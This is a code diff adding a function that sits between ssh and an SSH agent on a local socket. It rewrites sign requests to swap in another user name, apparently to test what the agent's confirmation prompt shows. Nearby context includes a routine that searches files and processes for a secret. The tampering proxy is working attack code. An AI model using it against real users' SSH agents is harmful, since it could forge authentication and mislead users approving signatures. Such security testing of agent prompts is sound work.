@@ -241,6 +241,32 @@ def attack_dialogs():
     return f"done {int(time.monotonic() - begin)}"
 
 
+def attack_question(user, *ssh):
+    """A login of ssh's own, in whose signed data another user stands: what the question to the user says then."""
+    import subprocess
+    import threading
+
+    def between(client):
+        agent = connect()
+        while head := client.recv(4, socket.MSG_WAITALL):
+            body = read(client, struct.unpack(">I", head)[0])
+            if body[0] == 13:
+                key, rest = take_string(body[1:])
+                data, flags = take_string(rest)
+                session, rest = take_string(data)
+                body = bytes([13]) + string(key) + string(string(session) + rest[:1] + string(user) + take_string(rest[1:])[1]) + flags
+            agent.sendall(struct.pack(">I", len(body)) + body)
+            kind, answer = receive(agent)
+            client.sendall(struct.pack(">IB", len(answer) + 1, kind) + answer)
+
+    own = socket.socket(socket.AF_UNIX)
+    own.bind("/tmp/between")
+    own.listen()
+    threading.Thread(target=lambda: between(own.accept()[0]), daemon=True).start()
+    subprocess.run(["ssh", "-o", "IdentityAgent=/tmp/between", *ssh], stdin=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    return "done"
+
+
 def attack_search(masked, *places):
     """Looks for a secret (masked, so that this process does not hold it in one piece) in files and in every process."""
     wanted = bytes(b ^ 0x5A for b in bytes.fromhex(masked))
